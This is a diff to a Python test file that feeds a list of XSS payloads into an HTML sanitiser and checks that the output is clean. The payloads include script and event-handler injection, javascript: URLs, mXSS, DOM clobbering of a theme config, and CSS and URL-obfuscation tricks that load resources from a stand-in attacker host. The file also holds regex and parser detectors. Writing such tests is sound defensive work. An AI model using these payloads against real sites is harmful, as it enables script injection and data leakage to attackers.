@@ -25,7 +25,8 @@ from tests.programs import BASE_PROGRAM, write_files
 from tests.serving import serve
 from tests.test_browser import browser, foreign_requests  # noqa: F401 - the browser fixture
 
-EVIL = "https://evil.example"
+HOST = "attacker.invalid"
+EVIL = f"https://{HOST}"
 PAYLOADS = [
     "<script>alert('script')</script>",
     "<img src=x onerror=alert('img-onerror')>",
@@ -38,11 +39,9 @@ PAYLOADS = [
     "<a href=\"&#106;avascript:alert('entity')\">entity</a>",
     f"<form action=\"{EVIL}/form\"><input name=q autofocus onfocus=alert('form')><button>go</button></form>",
     "<details open ontoggle=alert('details')><summary>s</summary>d</details>",
-    "<body onload=alert('body')>",
     "<object data=\"javascript:alert('object')\"></object>",
     "<embed src=\"javascript:alert('embed')\">",
     "<video><source onerror=alert('video')></video>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
     "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></p></noscript>",
     "<svg><a xlink:href=\"javascript:alert('svg-link')\"><text x=0 y=20>svg link</text></a></svg>",
     f"<img src=\"{EVIL}/pixel.png\">",
@@ -54,8 +53,28 @@ PAYLOADS = [
     f"<base href=\"{EVIL}/\">",
     "\"><script>alert('attribute-break')</script>",
     "<input type=image src=x onerror=alert('input-image')>",
+    # Issue 16, break 3: what got through without a policy, and its siblings.
+    f'<div id="__config">{{"base": "{EVIL}/", "features": ["navigation.instant"], "search": "{EVIL}/search.js", '
+    f'"translations": {{}}, "version": {{"provider": "mike"}}}}</div>',
+    "<h2 id=\"__search\">A heading with the search toggle's id</h2>",
+    f"<img src=\"/\\{HOST}/backslash.png\">",
+    f"<img src=\" //{HOST}/space.png\">",
+    f"<img src=\"/&#9;/{HOST}/tab.png\">",
+    f"<img src=\"&#1;/&#10;\\{HOST}/control.png\">",
+    f"![a backslash image](/\\{HOST}/markdown-backslash.png)",
+    f"<ul style=\"list-style:url({EVIL}/list.png)\"><li>a listed item</li></ul>",
+    f"<ul style=\"list-style:\\75 rl(//{HOST}/escaped.png)\"><li>an escaped item</li></ul>",
+    f"<div style=\"fill:url(//{HOST}/fill.svg#f)\">filled</div>",
+    f"<svg width=\"20\" height=\"20\"><rect width=\"20\" height=\"20\" fill=\"url({EVIL}/paint.svg#p)\" "
+    f"stroke=\"url(//{HOST}/stroke.svg#s)\"/></svg>",
+    "<pre class=\"mermaid\">graph TD; A-->B</pre>",
+    "<img name=\"__config\" src=\"clobbered.png\"><label for=\"__drawer\">a label for the drawer</label>",
+    # Unclosed, it makes Markdown read the rest of its text as HTML: late, so that Markdown payloads are read.
+    "<body onload=alert('body')>",
+    # Last: it leaves <style> open, which makes the rest of its page that element's text (dropped).
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
 ]
-FORBIDDEN = re.compile(r"<(script|iframe|object|embed|form|base|meta|link|style)\b|\son\w+\s*=|javascript:|evil\.example",
+FORBIDDEN = re.compile(r"<(script|iframe|object|embed|form|base|meta|link|style)\b|\son\w+\s*=|javascript:",
                        re.IGNORECASE)
 
 
@@ -63,8 +82,8 @@ def hostile_program(folder: Path) -> Path:
     def quoted(text: str) -> str:
         return json.dumps(text)
 
-    agenda = "\n".join(f"  - {quoted(p)}" for p in PAYLOADS)
-    notes = "\n\n".join(PAYLOADS)
+    agenda = "\n".join(f"  - {quoted(p)}" for p in PAYLOADS[:-1])
+    notes = "\n\n".join(PAYLOADS[:-1])  # the last one goes only where nothing follows it: the closing's end
     return write_files(folder, {
         **BASE_PROGRAM,
         "content/pairs/ana-ben/sessions/2026-02-03.md": (
@@ -76,7 +95,7 @@ def hostile_program(folder: Path) -> Path:
             f"milestones:\n  - {{title: {quoted(PAYLOADS[3])}}}\n---\n\n{notes}\n"),
         "content/pairs/ana-ben/closing.md": (
             f"---\ndate: 2026-04-01\noutcomes: [{quoted(PAYLOADS[6])}]\nfuture_contact: {quoted(PAYLOADS[9])}\n"
-            f"---\n\n{notes}\n"),
+            f"---\n\n{notes}\n\n{PAYLOADS[-1]}\n"),
     })
 
 
@@ -86,7 +105,8 @@ def test_there_are_at_least_twenty_payloads() -> None:
 
 @pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.startswith(("<", '"'))])
 def test_each_html_payload_is_cleaned_out(payload: str) -> None:
-    assert not FORBIDDEN.search(sanitise(f"<p>before</p>{payload}<p>after</p>")), payload
+    cleaned = sanitise(f"<p>before</p>{payload}<p>after</p>")
+    assert not FORBIDDEN.search(cleaned) and findings(cleaned) == [], payload
 
 
 def test_what_the_templates_write_is_kept() -> None:
@@ -97,7 +117,11 @@ def test_what_the_templates_write_is_kept() -> None:
             '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" role="img" aria-labelledby="t">'
             '<title id="t">A chart</title><circle cx="5" cy="5" r="2" style="fill:red"></circle></svg>'
             '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>')
-    assert sanitise(kept) == kept.replace('title="Permanent link">', 'title="Permanent link" rel="noopener noreferrer">')
+    # Ids and what points at them get the prefix that keeps them apart from the theme's (issue 16).
+    written = (kept.replace('title="Permanent link">', 'title="Permanent link" rel="noopener noreferrer">')
+               .replace('id="notes"', 'id="r-notes"').replace('href="#notes"', 'href="#r-notes"')
+               .replace('id="t"', 'id="r-t"').replace('aria-labelledby="t"', 'aria-labelledby="r-t"'))
+    assert sanitise(kept) == written
 
 
 @pytest.fixture(scope="module")
@@ -130,12 +154,12 @@ class Findings(html.parser.HTMLParser):
         for name, value in attrs:
             if name.startswith("on"):
                 self.found.append(f"<{tag} {name}>")
-            if value and ("javascript:" in value.lower().replace(" ", "") or "evil.example" in value):
+            if value and ("javascript:" in value.lower().replace(" ", "") or HOST in value):
                 self.found.append(f"<{tag} {name}={value}>")
         self.in_script = tag == "script"
 
     def handle_data(self, data: str) -> None:
-        if self.in_script and ("alert" in data or "evil.example" in data):
+        if self.in_script and ("alert" in data or HOST in data):
             self.found.append(f"<script>{data[:60]}")
 
     def handle_endtag(self, tag: str) -> None:
